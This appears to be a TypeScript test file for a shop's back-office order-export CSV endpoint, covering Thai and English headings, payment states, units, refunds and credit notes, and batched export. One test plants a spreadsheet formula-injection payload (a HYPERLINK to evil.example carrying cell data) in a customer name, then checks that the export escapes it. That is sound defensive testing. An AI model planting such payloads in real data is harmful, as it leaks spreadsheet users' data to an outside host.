import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { addCustomer, sessionsByCustomerId } from '../../../tests/support/api/customers.ts'
import { openTestApi, type TestApi } from '../../../tests/support/api/open-api.ts'
import { addOrder } from '../../../tests/support/api/orders.ts'
import { addTestStaff, staffSession } from '../../../tests/support/api/staff.ts'
import { addProduct } from '../../../tests/support/api/test-product.ts'
import { exportOrders } from './export-orders.ts'

let api: TestApi
let headers: { cookie: string }
beforeAll(async () => {
  api = await openTestApi({ findSession: sessionsByCustomerId })
  headers = await staffSession(api.database, (await addTestStaff(api.database, 'sales')).id)
})
afterAll(() => api.close())

const download = async (query: string, language = 'th') => {
  const answer = await api.call('GET', `/api/office/order-export?${query}`, {
    headers: { ...headers, 'accept-language': language },
  })
  const text = String(answer.body)
  return { text, rows: parse(text, { bom: true }) as string[][] }
}

describe('R19.7: the export of orders', () => {
  it('has a heading in the language of who asks, and the orders of the filter', async () => {
    const customerId = await addCustomer(api.database)
    const product = await addProduct(api.database)
    await addOrder(api.database, { customerId, lines: [{ product }], payment: 'failed' })
    const { text, rows } = await download('payment=failed')
    expect(text.startsWith('\uFEFFเลขที่,')).toBe(true)
    const english = (await download('payment=failed', 'en')).rows
    expect(english[0]?.[0]).toBe('Order number')
    expect(english[1]?.slice(5, 8)).toEqual(['Credit or debit card', 'Payment failed', 'Pending'])
    expect(rows.at(1)?.slice(5, 12)).toEqual([
      'บัตรเครดิต / เดบิต',
      'ชำระเงินไม่สำเร็จ',
      'รอดำเนินการ',
      '2 แผ่น',
      '200.00',
      '50.00',
      '250.00',
    ])
    expect(new Set(rows.slice(1).map((row) => row[6]))).toEqual(new Set(['ชำระเงินไม่สำเร็จ']))
  })

  it('says of what is not paid whether the shop still waits for it', async () => {
    const customerId = await addCustomer(api.database)
    const product = await addProduct(api.database)
    const lines = [{ product }]
    const waiting = await addOrder(api.database, { customerId, lines, payment: 'pending' })
    const payment = async () => (await download(`keyword=${waiting.orderNumber}`)).rows.at(1)?.slice(6, 8)
    expect(await payment()).toEqual(['รอชำระ', 'รอดำเนินการ'])
    const { pool } = api.database
    await pool.query(`update orders set fulfilment = 'cancelOrder' where id = $1`, [waiting.id])
    expect(await payment()).toEqual(['ไม่ต้องชำระ', 'ยกเลิกแล้ว'])
  })

  it('R21.29: counts the goods by their units, in the language of who asks', async () => {
    const customerId = await addCustomer(api.database)
    const lines = await Promise.all(
      [2, 1, 3].map(async (quantity) => ({ product: await addProduct(api.database), quantity })),
    )
    const { id, orderNumber } = await addOrder(api.database, { customerId, lines })
    const sellBy = (position: number, thai: string, english: string) =>
      api.database.pool.query(
        'update order_lines set unit_th = $3, unit_en = $4 where order_id = $1 and position = $2',
        [id, position, thai, english],
      )
    const quantities = async (language: string) =>
      (await download(`keyword=${orderNumber}`, language)).rows.at(1)?.[8]
    await sellBy(2, 'กล่อง', 'box')
    expect(await quantities('th')).toBe('5 แผ่น, 1 กล่อง')
    expect(await quantities('en')).toBe('5 sheets, 1 box')
    // Of an order from before units were kept.
    await sellBy(2, '', '')
    expect(await quantities('th')).toBe('5 แผ่น, 1 ชิ้น')
  })

  it('says what was given back of an order, and by which credit notes', async () => {
    const { pool } = api.database
    const customerId = await addCustomer(api.database)
    const lines = [{ product: await addProduct(api.database) }]
    const { id, orderNumber } = await addOrder(api.database, { customerId, lines, payment: 'paid' })
    for (const [serial, state] of (['confirmed', 'refused', 'confirmed'] as const).entries()) {
      const values = [`${id}-r${serial}`, id, 7_050]
      await pool.query(
        `insert into refunds (id, order_id, amount_satang, shipping_satang, is_excess, reason, asked_by, state, refusal, confirmed_at)
         values ($1, $2, $3, 0, false, 'broken', 'staff', $4::text, case when $4 = 'refused' then 'closed' end,
           case when $4 = 'confirmed' then now() end)`,
        [...values, state],
      )
      if (state === 'confirmed')
        await pool.query(
          `insert into credit_notes (refund_id, order_id, month, serial, original_satang, corrected_satang)
           values ($1, $2, '0001', $4, 25000, 25000 - $3)`,
          [...values, serial + 1],
        )
    }
    const { rows } = await download(`keyword=${orderNumber}`)
    expect(rows.map((row) => row.slice(15))).toEqual([
      ['คืนเงินแล้ว', 'ใบลดหนี้'],
      ['141.00', 'PHC-0001-00001 PHC-0001-00003'],
    ])
  })

  it('lets no name become a formula', async () => {
    const customerId = await addCustomer(api.database)
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    await api.database.pool.query(`update customers set first_name = $2, last_name = '' where id = $1`, [
      customerId,
      evil,
    ])
    const { orderNumber } = await addOrder(api.database, {
      customerId,
      lines: [{ product: await addProduct(api.database) }],
    })
    const { rows } = await download(`keyword=${orderNumber}`)
    expect(rows[1]?.[2]?.trim()).toBe(`'${evil}`)
  })

  it('reads a part of many orders at a time, each order once, and no more than is taken', async () => {
    const customerId = await addCustomer(api.database)
    // A thousand of each second: the place within it counts.
    await api.database.pool.query(
      `insert into orders (id, order_number, customer_id, created_at, payment_channel, payment, fulfilment, goods_satang,
         shipping_satang, total_satang, saved_satang, delivery_address, shipping_id, shipping_name_th, shipping_name_en)
       select 'o-many-' || n, 'MANY-0-' || n, $1, timestamptz '2020-01-01' + n / 1000 * interval '1 second', 'card', 'paid',
         'complete', 100, 0, 100, 0, '{}', 'p', 'x', 'x' from generate_series(1, 5500) n`,
      [customerId],
    )
    const { rows } = await download('keyword=MANY-0')
    expect(rows).toHaveLength(5_501)
    expect(new Set(rows.map(([number]) => number)).size).toBe(5_501)

    const select = vi.spyOn(api.database.db, 'select')
    const stream = exportOrders(api.database.db, 'thai', { keyword: 'MANY-0' })
    const chunks = stream[Symbol.asyncIterator]()
    await chunks.next()
    await chunks.next()
    expect(select.mock.calls.length).toBeLessThan(5)
    stream.destroy()
  })
})
